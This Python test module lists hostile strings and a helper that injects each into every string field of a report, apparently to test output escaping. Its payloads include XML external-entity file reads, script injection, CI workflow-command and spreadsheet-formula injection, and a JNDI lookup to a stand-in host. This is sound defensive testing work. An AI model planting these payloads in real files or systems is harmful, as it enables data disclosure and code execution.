"""Strings that a hostile file may hold, and a way to put one into every string field of a report."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any, Literal, get_args, get_origin

import msgspec
from msgspec.structs import replace

#: What it is -> the string.
ATTACKS: dict[str, str] = {
    "terminal escapes": "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "bidi override": "\u202egpj.exe\u2066\u2069",
    "zero width": "zero\u200bwidth\ufeff\u2060\u00ad",
    "nul and c1": "\x00\x01\x08\x7f\x85\x9b31m",
    "line breaks": "line\nbreak\rreturn\r\nboth\x0b\x0c\x1c\u2028\u2029\u0085end",
    "non-characters": "\ufffe\uffff\U0001fffe",
    "surrogates": "media/\udcff\udc80\ud800.jpg",
    "cdata end": "]]><failure/><![CDATA[",
    "xml entities": "&lt;&amp;&#0;&#x1b;&undefined;",
    "xml doctype": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "html script": "<script>alert(1)</script>",
    "html close": "--></code></td></table></details><script>alert(1)</script>",
    "html image": "<img src=x onerror=alert(1)>",
    "attribute": "\"' onmouseover='alert(1)' x=\"",
    "javascript link": "[click](javascript:alert(1)) <javascript:alert(1)>",
    "markdown link": "[text](https://evil.example) ![image](https://evil.example/x.png) [ref]: https://evil.example",
    "bare links": "https://evil.example www.evil.example someone@evil.example ftp://evil.example",
    "markdown table": "a | b \\| c \\\\| d\\",
    "backticks": "` `` ``` ```` \\` ` end`",
    "code fence": "```\n# heading\n~~~\n",
    "html comment": "<!-- hidden --> <!--",
    "mention": "@octocat #1 GH-1 owner/repo#2 !3 $$x$$ :tada: **bold** ~~gone~~ # heading",
    "github command": "::error file=a,line=1,title=owned::owned",
    "old github commands": "  ::set-output name=a::b%0A::add-mask::a%0D::stop-commands::x",
    "azure command": "##[error]owned ##vso[task.setvariable variable=a]b ###[group]",
    "teamcity command": "##teamcity[testFailed name='owned' message='|n']",
    "percent": "100%25 %0A %0D %3A %2C %s %d {} %(x)s",
    "sarif placeholders": "{0} {1} {{0}} [link](1) [link](https://evil.example) \\[",
    "templates": "${{ secrets.TOKEN }} {{ 7*7 }} <% x %> $(id) `id` ${jndi:ldap://evil.example}",
    "formula": "=cmd|' /C calc'!A0",
    "very long": "long|`*" * 3000,
}


def infect(value: Any, attack: str, path: str = "", kind: Any = str) -> Iterator[tuple[str, Any]]:
    """Yield ``value`` once for each string in it, with that one string replaced, and where it is.

    Values that a type narrows to a few words (``Literal``) are left alone: no file chooses them.
    """
    if isinstance(value, str):
        if not _closed(kind):
            yield path, attack
        return
    for name, item, inner, put in _parts(value, kind):
        for where, changed in infect(item, attack, f"{path}{name}", inner):
            yield where, put(changed)
    if isinstance(value, dict):
        for key in value:
            yield f"{path}[key]", {attack if name == key else name: item for name, item in value.items()}


def _parts(value: Any, kind: Any) -> Iterator[tuple[str, Any, Any, Callable[[Any], Any]]]:
    """Yield what is in ``value``: where, the part, its type, and how to make a copy with another part there."""
    if isinstance(value, msgspec.Struct):
        for field in msgspec.structs.fields(value):
            item = getattr(value, field.name)
            yield f".{field.name}", item, field.type, lambda it, name=field.name: replace(value, **{name: it})
    elif isinstance(value, dict):
        for key, item in value.items():
            yield f"[{key}]", item, str, lambda it, key=key: {**value, key: it}
    elif isinstance(value, (list, tuple)):
        inner = next((part for part in get_args(kind) if part is not Ellipsis), str)
        for at, item in enumerate(value):
            yield f"[{at}]", item, inner, lambda it, at=at: type(value)((*value[:at], it, *value[at + 1 :]))


def _closed(kind: Any) -> bool:
    """Does the type allow only a few given words?"""
    return get_origin(kind) is Literal or any(_closed(part) for part in get_args(kind))
